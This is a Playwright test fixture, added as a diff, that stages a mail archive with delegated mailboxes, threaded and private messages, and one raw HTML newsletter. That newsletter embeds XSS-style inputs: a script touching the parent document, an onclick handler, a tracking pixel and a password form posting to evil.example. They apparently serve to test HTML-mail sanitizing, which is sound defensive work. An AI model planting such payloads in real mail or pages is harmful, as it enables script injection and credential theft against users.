@@ -1,0 +1,118 @@
+import type { Browser, BrowserContext, Page } from 'playwright-core'
+import { launchChromium } from '../support/chromium.ts'
+import { message } from '../support/message.ts'
+import { type Person, startWorld, type World } from '../support/world.ts'
+
+/** A world with mail to look at, and a browser. */
+export interface Stage {
+  readonly world: World
+  readonly browser: Browser
+  readonly marta: Person
+  /** Number of the delegation that lends info@ to Marta. */
+  readonly delegation: number
+  /** A page signed in as somebody; steps that take longer than this many ms fail. */
+  open(person: Person, path: string, options?: Parameters<Browser['newContext']>[0]): Promise<Page>
+  close(): Promise<void>
+}
+
+const STEP = 10_000
+
+const HTML = `From: Hafenblatt <news@hafenblatt.example>
+To: info@lindhaven.example
+Subject: Hafenblatt: der neue Fahrplan
+Date: Mon, 23 Nov 2026 07:00:00 +0000
+Message-ID: <news@hafenblatt.example>
+MIME-Version: 1.0
+Content-Type: multipart/mixed; boundary=outer
+
+--outer
+Content-Type: text/html; charset=utf-8
+
+<html><body style="background:#eef"><h1>Fahrplan</h1><script>parent.document.title='stolen'</script>
+<p onclick="alert(1)">Der neue <b>Fahrplan</b> gilt. <img src="https://tracker.example/pixel.gif"></p>
+<form action="https://evil.example"><input name="password"></form></body></html>
+
+--outer
+Content-Type: text/plain; name="Notizen.txt"
+Content-Disposition: attachment; filename="Notizen.txt"
+
+Gleis 4 bleibt gesperrt.
+--outer
+Content-Type: text/csv
+Content-Disposition: attachment; filename="Preise.csv"
+
+Lindhaven;Visby;42
+--outer--
+`
+
+/** Starts a server with two own archives and a lent one, a conversation, HTML mail, attachments and marked mail. */
+export async function stage(): Promise<Stage> {
+  const world = await startWorld({ now: Date.now() })
+  await world.domain('lindhaven.example')
+  await world.mailbox('info@lindhaven.example', 'shared')
+  await world.mailbox('marta@lindhaven.example')
+  const marta = await world.person('Marta Lindqvist', 'marta@lindhaven.example')
+  const delegation = await world.delegate('marta@lindhaven.example', 'info@lindhaven.example', {
+    reason: 'Shared mailbox',
+  })
+  for (let number = 1; number <= 60; number += 1) {
+    const receivedAt = world.clock.now - number * 3_600_000
+    await world.accept(
+      message({
+        subject: `Round ${number}`,
+        to: 'marta@lindhaven.example',
+        text: `Message number ${number}.`,
+      }),
+      ['marta@lindhaven.example'],
+      { receivedAt },
+    )
+  }
+  await world.accept(
+    message({ subject: 'Fahrplan 2027', id: '<plan@print.example>' }),
+    ['info@lindhaven.example'],
+    { receivedAt: world.clock.now - 7_200_000 },
+  )
+  await world.accept(
+    message({
+      subject: 'AW: Fahrplan 2027',
+      id: '<answer@print.example>',
+      inReplyTo: '<plan@print.example>',
+      references: '<plan@print.example>',
+      text: 'Danke!\n\n> Der neue Fahrplan\n',
+    }),
+    ['info@lindhaven.example'],
+    { receivedAt: world.clock.now - 3_600_000 },
+  )
+  await world.accept(HTML, ['info@lindhaven.example'], { receivedAt: world.clock.now - 60_000 })
+  await world.accept(
+    message({ subject: 'Salary', sensitivity: 'Private' }),
+    ['info@lindhaven.example', 'marta@lindhaven.example'],
+    { receivedAt: world.clock.now - 30_000 },
+  )
+  await world.archiveAccepted()
+  await world.accept(message({ subject: 'On its way' }), ['marta@lindhaven.example'])
+  const browser = await launchChromium()
+
+  return {
+    world,
+    browser,
+    marta,
+    delegation,
+    open: async (person, path, options = {}) => {
+      const context: BrowserContext = await browser.newContext({
+        viewport: { width: 1440, height: 900 },
+        ...options,
+      })
+      const [name, value] = person.headers.cookie!.split('=') as [string, string]
+      await context.addCookies([{ name, value, url: world.url.href }])
+      const page = await context.newPage()
+      page.setDefaultTimeout(STEP)
+      await page.goto(new URL(path, world.url).href)
+      return page
+    },
+    close: async () => {
+      await browser.close()
+      await world.close()
+    },
+  }
+}
